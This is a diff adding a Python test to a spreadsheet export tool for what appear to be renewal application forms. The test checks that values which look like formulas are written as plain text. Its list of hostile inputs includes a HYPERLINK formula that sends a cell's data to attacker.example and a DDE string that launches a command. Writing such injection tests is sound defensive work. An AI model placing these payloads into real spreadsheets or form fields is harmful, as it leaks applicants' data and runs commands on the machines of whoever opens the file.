@@ -127,3 +127,28 @@ def test_libreoffice_reads_the_same_values_as_the_csv_export(tmp_path):
         if ISA.exists():
             with (ISA / "renewal" / f"{sheet}.csv").open(encoding="utf-8-sig") as fh:
                 assert exported[0] == next(csv.reader(fh))
+
+
+HOSTILE = ['=HYPERLINK("http://attacker.example/?"&C2,"詳細")', "\t=1+1", "+1+1", "-1+1",
+           "@SUM(1+1)", "=cmd|' /C calc'!A0", "#REF!", " =2+2"]
+
+
+def test_values_that_look_like_formulas_are_written_as_plain_text(tmp_path):
+    import zipfile
+
+    cases = applicants(len(HOSTILE))
+    for case, value in zip(cases, HOSTILE, strict=True):
+        case.values["remarks"] = value
+    path = xlsx.write_workbook(cases, tmp_path / "renewal.xlsx", normalise=False)
+    with zipfile.ZipFile(path) as archive:
+        for name in archive.namelist():
+            if name.startswith("xl/worksheets/"):
+                xml = archive.read(name).decode("utf-8")
+                assert "<f>" not in xml and "<f " not in xml, name
+                assert 't="e"' not in xml and 't="str"' not in xml, name
+    ws = load_workbook(path)["申請情報入力"]
+    col = [c.value for c in ws[xlsx.ROW_HEADER]].index(
+        catalogue("renewal").field("remarks").header) + 1
+    cells = [ws.cell(xlsx.FIRST_DATA_ROW + i, col) for i in range(len(HOSTILE))]
+    assert [c.value for c in cells] == HOSTILE
+    assert {c.data_type for c in cells} == {"s"}
